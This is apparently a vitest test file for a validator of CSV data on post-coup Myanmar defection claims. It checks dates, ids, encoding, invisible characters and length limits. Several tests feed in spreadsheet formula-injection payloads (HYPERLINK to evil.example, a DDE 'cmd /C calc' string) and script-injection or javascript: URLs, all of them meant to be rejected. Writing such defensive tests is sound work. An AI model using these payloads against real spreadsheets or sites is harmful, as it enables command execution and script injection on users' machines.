import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { csvFormatRows, csvParseRows } from 'd3-dsv';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  DataValidationError,
  formatDefect,
  loadDataset,
  publishedDataText,
  startsLikeFormula,
  validateDatasetTexts,
  type DataDefect,
} from '../../src/lib/dataset.ts';
import { firstInvalidUtf8Byte } from '../../src/lib/csv-text.ts';
import type { DataFileKey } from '../../src/lib/schema.ts';

const fixtures = join(import.meta.dirname, '..', 'fixtures');
const good = (file: string) => readFileSync(join(fixtures, 'good-data', file), 'utf8');
const bad = (file: string) => readFileSync(join(fixtures, 'bad-data', file), 'utf8');

function goodTexts(): Record<Exclude<DataFileKey, 'readings' | 'relations'>, string | null> {
  return {
    claims: good('claims.csv'),
    claimants: good('claimants.csv'),
    sources: good('sources.csv'),
    events: good('events.csv'),
  };
}

/** Validates the good fixture with one file swapped, and returns the defects it raised. */
function defectsWith(replacement: Partial<Record<DataFileKey, string | Uint8Array | null>>): DataDefect[] {
  try {
    validateDatasetTexts({ ...goodTexts(), ...replacement });
  } catch (error) {
    if (error instanceof DataValidationError) return error.defects;
    throw error;
  }
  return [];
}

describe('the good fixture', () => {
  it('loads with typed values', () => {
    const data = loadDataset(join(fixtures, 'good-data'));
    expect(data.claims).toHaveLength(3);
    const [first, second, vague] = data.claims;
    expect(first?.figure).toBe(3000);
    expect(first?.quote).toBe('A fixture sentence with “typographic quotes”, a comma and around 3,000.');
    expect(first?.period_end).toBeNull();
    expect(second?.notes).toBe('A note.');
    expect(vague?.figure).toBeNull();
    expect(vague?.place).toBe('Kokang, Shan State');
  });
});

describe('the bad-input corpus: one defect per file, one message naming file, row, column, value and expectation', () => {
  it('rejects an unknown claimant', () => {
    const defects = defectsWith({ claims: bad('claims.unknown-claimant.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 4, column "claimant_id": found "no-such-claimant"; expected an id from data/claimants.csv (fixture-claimant)',
    ]);
  });

  it('rejects a duplicate id and names the row that had it first', () => {
    const defects = defectsWith({ claims: bad('claims.duplicate-id.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 3, column "id": found "fixture-total-2021"; expected an id not used before (row 2 has it)',
    ]);
  });

  it('rejects a date that does not exist', () => {
    const defects = defectsWith({ claims: bad('claims.bad-date.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 2, column "claimed_on": found "2021-09-31"; expected a date that exists, written YYYY, YYYY-MM or YYYY-MM-DD',
    ]);
  });

  it('rejects a period that ends before it starts', () => {
    const defects = defectsWith({ claims: bad('claims.reversed-period.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 4, column "period_end": found "2023-11-01"; expected a date on or after period_start (2023-11-30)',
    ]);
  });

  it('rejects a figure written with a thousands comma instead of reading it as 15', () => {
    const defects = defectsWith({ claims: bad('claims.thousands-comma.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 3, column "figure": found "15,000"; expected the figure: a whole number above 0 in plain digits (no thousands separators, no spaces), or empty',
    ]);
  });

  it('rejects an empty quote', () => {
    const defects = defectsWith({ claims: bad('claims.empty-quote.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 3, column "quote": found ""; expected the verbatim quote from the article; it must not be empty',
    ]);
  });

  it('rejects a file with a column missing, at the header, before reading rows', () => {
    const defects = defectsWith({ claims: bad('claims.missing-column.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 1, column "verification": expected a column named "verification" in the header',
    ]);
  });

  it('rejects a value outside a closed list and lists the allowed values', () => {
    const defects = defectsWith({ claims: bad('claims.unknown-enum.csv') });
    expect(defects.map(formatDefect)).toEqual([
      'data/claims.csv, row 3, column "action": found "ran_away"; expected one of: defected, deserted, surrendered, joined_cdm, contacted_resistance, contacted_nug, waiting_to_leave, answered_call',
    ]);
  });

  it('accepts a byte-order mark, as spreadsheet programs write it, and reads the same data', () => {
    expect(defectsWith({ claims: bad('claims.bom.csv') })).toEqual([]);
    const withBom = validateDatasetTexts({ ...goodTexts(), claims: bad('claims.bom.csv') });
    expect(withBom).toEqual(validateDatasetTexts(goodTexts()));
    expect(Object.keys(withBom.claims[0] ?? {})[0]).toBe('id');
  });

  it('accepts CRLF line endings and keeps no carriage return in any value', () => {
    const withCrlf = validateDatasetTexts({ ...goodTexts(), claims: bad('claims.crlf.csv') });
    expect(withCrlf).toEqual(validateDatasetTexts(goodTexts()));
    expect(JSON.stringify(withCrlf)).not.toContain('\\r');
  });
});

describe('collecting every defect before failing', () => {
  it('reports defects from several rows and files in one error', () => {
    const claims = good('claims.csv')
      .replace(',3000,people,about,', ',3000,people,approximately,')
      .replace('2023-08,2021-02-01', '2023-13,2021-02-01');
    const events = good('events.csv').replace(',fixture-source\n', ',missing-source\n');
    const defects = defectsWith({ claims, events });
    expect(defects.map((d) => [d.file, d.row, d.column])).toEqual([
      ['data/claims.csv', 2, 'qualifier'],
      ['data/claims.csv', 3, 'claimed_on'],
      ['data/events.csv', 2, 'source_id'],
    ]);
  });

  it('names a missing file', () => {
    expect(defectsWith({ sources: null }).map(formatDefect)).toEqual(['data/sources.csv: expected the file to exist']);
  });

  it('needs every published file in a data folder, the optional ones with at least a header', () => {
    const dir = mkdtempSync(join(tmpdir(), 'no-relations-'));
    for (const file of ['claims', 'claimants', 'sources', 'events', 'readings'])
      writeFileSync(join(dir, `${file}.csv`), good(`${file}.csv`));
    // Named in the folder it was read from (as DATA_DIR gives it), not as data/.
    const folder = `${relative(process.cwd(), dir)}/`;
    expect(() => loadDataset(dir)).toThrow(`The data in ${folder} has 1 defect; nothing was built.`);
    expect(() => loadDataset(dir)).toThrow(
      `${folder}relations.csv: expected the file to exist, with at least its header row (from,relation,to,note): the downloads publish it`,
    );
    writeFileSync(join(dir, 'relations.csv'), good('relations.csv'));
    expect(loadDataset(dir).relations).toEqual([]);
  });

  it('names a folder where a file belongs, instead of failing to read it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'folder-for-file-'));
    for (const file of ['claims', 'claimants', 'sources', 'readings', 'relations'])
      writeFileSync(join(dir, `${file}.csv`), good(`${file}.csv`));
    mkdirSync(join(dir, 'events.csv'));
    expect(() => loadDataset(dir)).toThrow('data/events.csv: expected a file, not a folder');
  });

  it('rejects text a spreadsheet would run as a formula, in any column, and keeps negative-looking numbers for the schema', () => {
    const claims = good('claims.csv').split('\n');
    const [header, first] = [claims[0]!.split(','), claims[1]!];
    const quoteAt = header.indexOf('quote');
    expect(quoteAt).toBeGreaterThan(-1);
    for (const formula of [
      '=HYPERLINK(""https://evil.example/"",""x"")',
      '+cmd',
      '@SUM(1)',
      '-x',
      // A digit after the minus does not make it a number.
      '-1+HYPERLINK(""https://evil.example/?""&A2,""click"")',
      "-2+3+cmd|' /C calc'!A0",
      '-1,500.5+1',
      // Full-width forms, which spreadsheets may fold to = + @ -.
      '\uff1d1+1',
      '\uff0bcmd',
      '\uff20SUM(1)',
      '\uff0d1+1',
    ]) {
      const cells = csvParseRows(first)[0]!;
      cells[quoteAt] = formula.replaceAll('""', '"');
      const row = csvFormatRows([cells]);
      const defects = defectsWith({ claims: [claims[0], row, ...claims.slice(2)].join('\n') }).map(formatDefect);
      expect(defects).toHaveLength(1);
      expect(defects[0]).toMatch(
        /^data\/claims\.csv, row 2, column "quote": .*a spreadsheet opening the download would run it as a formula/,
      );
    }
    for (const number of ['-5', '-12', '-1,500.5', '-0.25', ' -12 ', '-1500'])
      expect(startsLikeFormula(number), number).toBe(false);
    expect(startsLikeFormula('a = b')).toBe(false);
    expect(startsLikeFormula('-1,50')).toBe(true);
  });

  it('lets a minus through only when the whole cell is a number: any formula after "-<digits>" is caught', () => {
    const formulaTail = fc.constantFrom(
      '+1',
      '+HYPERLINK("https://evil.example/")',
      "+cmd|' /C calc'!A0",
      '*A1',
      '&A2',
    );
    fc.assert(
      fc.property(fc.integer({ min: 1 }), fc.boolean(), formulaTail, (value, grouped, tail) => {
        const number = `-${grouped ? value.toLocaleString('en') : value}`;
        expect(startsLikeFormula(number)).toBe(false);
        expect(startsLikeFormula(`${number}.5`)).toBe(false);
        expect(startsLikeFormula(`${number}${tail}`)).toBe(true);
        expect(startsLikeFormula(`\uff0d${number.slice(1)}${tail}`)).toBe(true);
      }),
    );
  });

  it('rejects a stray column and a row with the wrong number of cells', () => {
    const stray = good('claimants.csv')
      .replace('interest\n', 'interest,extra\n')
      .replace('a fixture.\n', 'a fixture.,x\n');
    expect(defectsWith({ claimants: stray }).map(formatDefect)).toEqual([
      'data/claimants.csv, row 1, column "extra": found "extra"; expected only the columns id, name, short_name, kind, description, interest',
    ]);
    const short = good('sources.csv').replace(',,en\n', ',en\n');
    expect(defectsWith({ sources: short }).map((d) => [d.row, d.expected])).toEqual([
      [2, '7 cells (one per column), found 6'],
    ]);
  });

  it('a row with the wrong number of cells still defines its id: the rows citing it are not reported too', () => {
    const sources =
      good('sources.csv').replace(',,en\n', ',\n') +
      'other-source,Other,Another headline,2023-12,https://example.org/o,,en\n';
    expect(defectsWith({ sources }).map((d) => [d.file, d.row, d.expected])).toEqual([
      ['data/sources.csv', 2, '7 cells (one per column), found 6'],
    ]);
  });

  it('quotes the cells of a row with the wrong number of cells as CSV, so a comma inside a cell shows', () => {
    // The outlet "Fixture, Outlet" is one quoted cell; the row lacks its language cell.
    const short = good('sources.csv').replace('Fixture Outlet', '"Fixture, Outlet"').replace(',,en\n', ',\n');
    expect(defectsWith({ sources: short }).map(formatDefect)).toEqual([
      'data/sources.csv, row 2: found the row fixture-source,"Fixture, Outlet",A fixture headline,2023-12-31,https://example.org/fixture,; expected 7 cells (one per column), found 6',
    ]);
    // ...and that one defect is all: the claims and the event citing fixture-source are not reported.
  });

  it('requires a figure unless the claim is vague, and none when it is', () => {
    const claims = good('claims.csv')
      .replace(',,,3000,people,about,', ',,,,people,about,')
      .replace(',,,,people,vague,', ',,,,12,people,vague,'.replace(',,,,12', ',,,12'));
    const defects = defectsWith({ claims });
    expect(defects.map((d) => [d.row, d.column, d.value])).toEqual([
      [2, 'figure', ''],
      [4, 'figure', '12'],
    ]);
  });

  it('rejects a period that starts after the claim was made', () => {
    const claims = good('claims.csv').replace('2023-08,2021-02-01', '2023-08,2023-09');
    expect(defectsWith({ claims }).map(formatDefect)).toEqual([
      'data/claims.csv, row 3, column "period_start": found "2023-09"; expected a date on or before claimed_on (2023-08): a claim cannot count what had not happened yet',
    ]);
  });
});

describe('source urls: a plain https:// address with a host', () => {
  const withUrl = (url: string) =>
    defectsWith({ sources: good('sources.csv').replace('https://example.org/fixture', url) }).map(formatDefect);
  const expected = (url: string) =>
    `data/sources.csv, row 2, column "url": found ${JSON.stringify(url)}; expected a plain https:// address with a host name (not an IP address or a port), e.g. https://www.rfa.org/english/ (no spaces, quotes, angle brackets, backslashes or control characters)`;

  it.each([
    'http://example.org/fixture',
    'https://example.org/"><script>alert(1)</script>',
    'https://example.org/</script><script>alert(1)</script>',
    "https://example.org/it's",
    'https://example.org/a b',
    'https://example.org\\fixture',
    'https://localhost/fixture',
    'https://127.0.0.1:8443/fixture',
    'https://10.0.0.1/fixture',
    'https://example.org:8443/fixture',
    'https:///fixture',
    'https://user:pass@example.org/',
    'javascript:alert(1)',
  ])('rejects %j, once, with no follow-on "unknown source" defects', (url) => {
    // The fixture's claims and event all cite this source: before, each became a second defect.
    expect(withUrl(`"${url.replaceAll('"', '""')}"`)).toEqual([expected(url)]);
  });

  it.each([
    'https://www.rfa.org/english/news/myanmar/defectors-09242021162812.html',
    'https://example.org/a?b=c&d=e#f',
  ])('accepts %j', (url) => {
    expect(withUrl(url)).toEqual([]);
  });

  it('a malformed source id is one defect, not one more on every claim and event that cites it', () => {
    const sources = good('sources.csv').replace('\nfixture-source,', '\nFixture_Source,');
    const claims = good('claims.csv').replaceAll(',fixture-source,', ',Fixture_Source,');
    const events = good('events.csv').replace(',fixture-source\n', ',Fixture_Source\n');
    expect(defectsWith({ sources, claims, events }).map(formatDefect)).toEqual([
      'data/sources.csv, row 2, column "id": found "Fixture_Source"; expected a lowercase slug of letters, digits and single hyphens, e.g. nug-cdm-2023-08',
    ]);
  });

  it('the ids offered as choices include those of rows with another defect', () => {
    const sources = good('sources.csv').replace('https://example.org/fixture', 'http://example.org/fixture');
    const claims = good('claims.csv').replace(',fixture-source,', ',no-such-source,');
    expect(defectsWith({ sources, claims }).map(formatDefect)).toEqual([
      'data/sources.csv, row 2, column "url": found "http://example.org/fixture"; expected a plain https:// address with a host name (not an IP address or a port), e.g. https://www.rfa.org/english/ (no spaces, quotes, angle brackets, backslashes or control characters)',
      'data/claims.csv, row 2, column "source_id": found "no-such-source"; expected an id from data/sources.csv (fixture-source)',
    ]);
  });
});

describe('encoding: every file is decoded strictly as UTF-8', () => {
  const badBytes = (file: string) => readFileSync(join(fixtures, 'bad-data', file));
  const RESAVE = 'Re-save it as "CSV UTF-8" (in LibreOffice: Character set "Unicode (UTF-8)")';

  it('reads the good fixture from bytes exactly as from text', () => {
    const bytes = readFileSync(join(fixtures, 'good-data', 'claims.csv'));
    expect(validateDatasetTexts({ ...goodTexts(), claims: bytes })).toEqual(validateDatasetTexts(goodTexts()));
  });

  it.each([
    // “ is 0x93 in Windows-1252: the first typographic quote, on line 2.
    ['claims.cp1252.csv', '0x93 on line 2'],
    // é is 0xE9 in Latin-1, in the place of the claim on line 4.
    ['claims.latin1.csv', '0xE9 on line 4'],
  ])('rejects %s, naming the file, the first bad byte and how to re-save', (file, where) => {
    expect(defectsWith({ claims: badBytes(file) }).map(formatDefect)).toEqual([
      `data/claims.csv: expected the file to be UTF-8 text, but byte ${where} is not UTF-8: the file was probably saved as Windows-1252 or Latin-1. ${RESAVE}`,
    ]);
  });

  it.each([
    ['a CESU-8 surrogate (U+D800)', [0xed, 0xa0, 0x80], '0xED'],
    ['an overlong two-byte "/"', [0xc0, 0xaf], '0xC0'],
    ['an overlong three-byte "/"', [0xe0, 0x80, 0xaf], '0xE0'],
    ['an overlong four-byte "/"', [0xf0, 0x80, 0x80, 0xaf], '0xF0'],
    ['a code point above U+10FFFF (F4 90)', [0xf4, 0x90, 0x80, 0x80], '0xF4'],
    ['a lead byte for above U+10FFFF (F5)', [0xf5, 0x80, 0x80, 0x80], '0xF5'],
    ['a three-byte sequence cut short', [0xe2, 0x82], '0xE2'],
    ['a stray continuation byte', [0x80], '0x80'],
  ])('rejects %s inside line 2 of events.csv, naming that byte and line', (_name, inserted, byte) => {
    const text = good('events.csv');
    const at = text.indexOf(',', text.indexOf('\n')) + 1;
    const bytes = Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(inserted), Buffer.from(text.slice(at))]);
    expect(defectsWith({ events: bytes }).map(formatDefect)).toEqual([
      `data/events.csv: expected the file to be UTF-8 text, but byte ${byte} on line 2 is not UTF-8: the file was probably saved as Windows-1252 or Latin-1. ${RESAVE}`,
    ]);
  });

  it('finds an ill-formed byte exactly when the strict decoder refuses the bytes, at the end of the file too', () => {
    const strict = new TextDecoder('utf-8', { fatal: true });
    const decodes = (bytes: Uint8Array) => {
      try {
        strict.decode(bytes);
        return true;
      } catch {
        return false;
      }
    };
    // Bytes near the edges of Table 3-7's ranges, so every boundary is crossed often.
    const edgy = fc.constantFrom(
      0x00,
      0x41,
      0x7f,
      0x80,
      0x8f,
      0x90,
      0x9f,
      0xa0,
      0xbf,
      0xc0,
      0xc1,
      0xc2,
      0xdf,
      0xe0,
      0xe1,
      0xec,
      0xed,
      0xee,
      0xef,
      0xf0,
      0xf1,
      0xf3,
      0xf4,
      0xf5,
      0xff,
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(edgy, fc.integer({ min: 0, max: 255 })), { maxLength: 12 }), (values) => {
        const bytes = Uint8Array.from(values);
        const offset = firstInvalidUtf8Byte(bytes);
        expect(offset === -1).toBe(decodes(bytes));
        // Everything before the reported byte is well formed.
        if (offset >= 0) expect(decodes(bytes.subarray(0, offset))).toBe(true);
      }),
      { numRuns: 5000 },
    );
  });

  it.each([
    ['claims.utf16le.csv', 'it starts with a UTF-16 byte-order mark'],
    ['claims.utf16be.csv', 'it starts with a UTF-16 byte-order mark'],
    ['claims.utf16-no-bom.csv', 'it contains NUL bytes'],
  ])('rejects UTF-16 (%s) with the same kind of message and no NUL byte in it', (file, why) => {
    const messages = defectsWith({ claims: badBytes(file) }).map(formatDefect);
    expect(messages).toEqual([
      `data/claims.csv: expected the file to be UTF-8 text, but it is UTF-16 (${why}). ${RESAVE}`,
    ]);
    expect(messages.join('')).not.toContain('\0');
  });

  it('names the line of a stray NUL in UTF-8 text, rather than calling the file UTF-16', () => {
    const lines = good('claims.csv').split('\n');
    lines[2] = `${lines[2]!.slice(0, 10)}\0${lines[2]!.slice(10)}`;
    expect(defectsWith({ claims: new TextEncoder().encode(lines.join('\n')) }).map(formatDefect)).toEqual([
      'data/claims.csv: expected text without NUL characters (U+0000), but line 3 has one; delete it (most editors do not show it)',
    ]);
  });
});

describe('invisible, direction and control characters: one rule for every column of every file', () => {
  it('rejects a right-to-left override and prints it spelled out, not raw', () => {
    const messages = defectsWith({ claims: bad('claims.bidi-override.csv') }).map(formatDefect);
    expect(messages).toEqual([
      'data/claims.csv, row 3, column "quote": found "A fixture sentence \\u{202E}about around 15000."; expected text without invisible, direction or control characters, but it has U+202E RIGHT-TO-LEFT OVERRIDE at character 20; delete it (most editors do not show it)',
    ]);
    expect(messages.join('')).not.toContain('\u202e');
  });

  it('rejects a zero-width space', () => {
    expect(
      defectsWith({ claims: bad('claims.zero-width-space.csv') }).map((d) => [d.row, d.column, d.expected]),
    ).toEqual([
      [
        4,
        'quote',
        'text without invisible, direction or control characters, but it has U+200B ZERO WIDTH SPACE at character 12; delete it (most editors do not show it)',
      ],
    ]);
  });

  it.each([
    ['claimants', 'Fixture Claimant', '\u200eFixture Claimant', 'name', 'U+200E LEFT-TO-RIGHT MARK at character 1'],
    ['claimants', 'fixture-claimant,', 'fixture-\u2066claimant,', 'id', 'U+2066 LEFT-TO-RIGHT ISOLATE at character 9'],
    [
      'sources',
      'A fixture headline',
      'A fixture\theadline',
      'headline',
      'U+0009 CHARACTER TABULATION (tab) at character 10',
    ],
    ['sources', 'Fixture Outlet', 'Fixture\u061c Outlet', 'outlet', 'U+061C ARABIC LETTER MARK at character 8'],
    ['events', 'Fixture event', 'Fixture\u0085 event', 'title', 'U+0085 a control character at character 8'],
    ['events', 'exists only', 'exists\u2060only', 'description', 'U+2060 WORD JOINER at character 21'],
    [
      'claims',
      'A note.',
      'A\ufeff note.',
      'notes',
      'U+FEFF ZERO WIDTH NO-BREAK SPACE (byte-order mark) at character 2',
    ],
    ['claims', 'A note.', '"A\nnote."', 'notes', 'U+000A LINE FEED (a line break inside the cell) at character 2'],
    [
      'claims',
      'A note.',
      'A not\ufffd.',
      'notes',
      'U+FFFD REPLACEMENT CHARACTER (text once decoded with the wrong encoding) at character 6',
    ],
    ['claims', 'A note.', 'A\u200d note.', 'notes', 'U+200D ZERO WIDTH JOINER at character 2'],
  ] as const)(
    'in %s, rejects %j written as %j: one defect, in column %s, naming %s',
    (key, from, to, column, found) => {
      const defects = defectsWith({ [key]: good(`${key}.csv`).replace(from, to) });
      expect(defects.map((d) => [d.column, d.expected])).toEqual([
        [
          column,
          `text without invisible, direction or control characters, but it has ${found}; delete it (most editors do not show it)`,
        ],
      ]);
    },
  );

  it('accepts Burmese text, with the joiners it uses between Myanmar-script characters', () => {
    // "Shan State" in Burmese, with a zero-width non-joiner between two of its Myanmar characters.
    const place = 'ရှမ်း\u200cပြည်နယ်';
    const claims = good('claims.csv').replace('"Kokang, Shan State"', `"Kokang, ${place}"`);
    expect(defectsWith({ claims })).toEqual([]);
    expect(validateDatasetTexts({ ...goodTexts(), claims }).claims[2]?.place).toBe(`Kokang, ${place}`);
  });
});

describe('length: every text column has a maximum', () => {
  it('rejects a 5 MB note as one defect, quoting only the start and end of the value', () => {
    const note = `Start ${'x'.repeat(5_000_000)} end.`;
    const messages = defectsWith({ claims: good('claims.csv').replace('A note.', note) }).map(formatDefect);
    expect(messages).toEqual([
      `data/claims.csv, row 3, column "notes": found "Start ${'x'.repeat(54)}…${'x'.repeat(15)} end."; expected at most 1,500 characters (a note, shown in full on the explainer), not 5,000,011`,
    ]);
  });

  it('counts characters (code points), not UTF-16 units: 320 characters outside the BMP are a quote of 320', () => {
    // U+1D11E (a musical symbol) takes two UTF-16 units, so 320 of them have a .length of 640.
    const quote = '\u{1D11E}'.repeat(320);
    expect(quote.length).toBe(640);
    expect(
      defectsWith({ claims: good('claims.csv').replace('A fixture sentence about around 15000.', quote) }),
    ).toEqual([]);
    const tooLong = `${quote}x`;
    expect(
      defectsWith({ claims: good('claims.csv').replace('A fixture sentence about around 15000.', tooLong) }).map(
        (d) => d.expected,
      ),
    ).toEqual(['at most 320 characters (one sentence of evidence, not a paragraph of the article), not 321']);
  });

  it.each([
    [
      'claimants',
      'Fixture,',
      `${'F'.repeat(21)},`,
      'short_name',
      'at most 20 characters (it is drawn on charts), not 21',
    ],
    ['events', 'Fixture event', 'E'.repeat(41), 'title', 'at most 40 characters (it is drawn on charts), not 41'],
    ['sources', 'A fixture headline', 'H'.repeat(301), 'headline', 'at most 300 characters (a headline), not 301'],
  ] as const)('in %s, rejects %j lengthened: column %s', (key, from, to, column, expected) => {
    expect(defectsWith({ [key]: good(`${key}.csv`).replace(from, to) }).map((d) => [d.column, d.expected])).toEqual([
      [column, expected],
    ]);
  });
});

describe('the files as published', () => {
  it('drop a byte-order mark and CRLF, and keep everything else as written', () => {
    const dir = mkdtempSync(join(tmpdir(), 'published-data-'));
    writeFileSync(join(dir, 'claims.csv'), readFileSync(join(fixtures, 'bad-data', 'claims.bom.csv')));
    writeFileSync(join(dir, 'claimants.csv'), readFileSync(join(fixtures, 'bad-data', 'claims.crlf.csv')));
    expect(publishedDataText(dir, 'claims')).toBe(good('claims.csv'));
    // The CRLF fixture is the claims file too; what matters is that its bytes become the LF ones.
    const claimsAsClaimants = publishedDataText(dir, 'claimants');
    expect(claimsAsClaimants).toBe(good('claims.csv'));
    expect(claimsAsClaimants).not.toContain('\r');
  });
});

describe('dates that are well formed but cannot be right', () => {
  const defectsOn = (today: string, replacement: Partial<Record<DataFileKey, string>> = {}) => {
    try {
      validateDatasetTexts({ ...goodTexts(), ...replacement }, { today });
    } catch (error) {
      if (error instanceof DataValidationError) return error.defects.map(formatDefect);
      throw error;
    }
    return [];
  };

  it('accepts the good fixture on any day after its last date, and a partial date that includes today', () => {
    expect(defectsOn('2031-01-01')).toEqual([]);
    // The source is dated 2023-12-31 and the last claim 2023-12: on 2023-12-31 both can be today.
    expect(defectsOn('2023-12-31')).toEqual([]);
  });

  it('rejects a claim and a source from the future, by the injected today', () => {
    // The vague claim (row 4) is dated 2023-12, which cannot be on or before 30 Nov 2023.
    expect(defectsOn('2023-11-30')).toEqual([
      'data/sources.csv, row 2, column "published": found "2023-12-31"; expected a date no later than today (2023-11-30): an article cannot be published in the future',
      'data/claims.csv, row 4, column "claimed_on": found "2023-12"; expected a date no later than today (2023-11-30): a claim cannot be made in the future',
    ]);
  });

  it('rejects an event from the future', () => {
    const events = good('events.csv').replace(',2021-02-01,', ',2031-02-01,');
    expect(defectsOn('2031-01-01', { events })).toEqual([
      'data/events.csv, row 2, column "date": found "2031-02-01"; expected a date no later than today (2031-01-01): the timeline shows events that have happened',
    ]);
  });

  it('rejects a claim dated after the article that reports it', () => {
    const sources = good('sources.csv').replace(',2023-12-31,', ',2023-10,');
    expect(defectsOn('2031-01-01', { sources })).toEqual([
      'data/claims.csv, row 4, column "claimed_on": found "2023-12"; expected a date on or before the article\'s publication (2023-10, data/sources.csv "fixture-source"): an article cannot report a claim made after it',
    ]);
  });

  it('reports a claim from the future once, not also as later than its article', () => {
    const sources = good('sources.csv').replace(',2023-12-31,', ',2023-10,');
    expect(defectsOn('2023-11-30', { sources }).map((message) => message.split(';')[0])).toEqual([
      'data/claims.csv, row 4, column "claimed_on": found "2023-12"',
    ]);
  });

  it('rejects a period that starts before the coup, saying so for a total since the coup', () => {
    const claims = good('claims.csv')
      .replace('2021-09-24,2021-02-01', '2021-09-24,2021-01-15')
      .replace(',,,,,people,vague,', ',2020,,,,people,vague,');
    expect(defectsOn('2031-01-01', { claims })).toEqual([
      'data/claims.csv, row 2, column "period_start": found "2021-01-15"; expected a date on or after the coup (2021-02-01): the data counts people leaving since the coup, and this claim is a total since the coup',
      'data/claims.csv, row 4, column "period_start": found "2020"; expected a date on or after the coup (2021-02-01): the data counts people leaving since the coup',
    ]);
  });
});
